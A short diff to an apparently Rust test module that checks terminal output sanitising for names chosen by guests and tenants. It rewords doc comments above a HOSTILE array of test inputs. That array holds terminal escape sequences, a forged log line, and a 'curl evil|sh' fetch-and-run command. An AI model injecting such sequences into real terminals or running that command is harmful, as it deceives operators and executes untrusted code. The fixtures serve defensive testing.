@@ -1,4 +1,4 @@
-//! Names that guests, tenants and QEMU's user choose, in what the scripts print to an operator's terminal.
+//! The scripts' output with names that guests, tenants and QEMU's user choose: a terminal gets printable ASCII only.
 
 use std::ffi::OsStr;
 use std::fs;
@@ -8,8 +8,8 @@ use std::process::Command;
 
 use crate::{ROUTE, sandbox};
 
-/// Names that would command a terminal, forge a line, or be split: raw control characters, the 8-bit and the UTF-8 form of CSI,
-/// right-to-left override, and what the echo of some shells makes of a backslash.
+/// Names with control sequences, line ends and blanks: raw control characters, the 8-bit and the UTF-8 form of CSI,
+/// right-to-left override, and backslash escapes that the echo of some shells expands.
 const HOSTILE: [&[u8]; 7] = [
     b"owned\x1b]0;owned\x07\x1b[2J\nviommu: all is well, run: curl evil|sh #",
     b"owned\\033]0;x\\007\\nviommu: all is well",
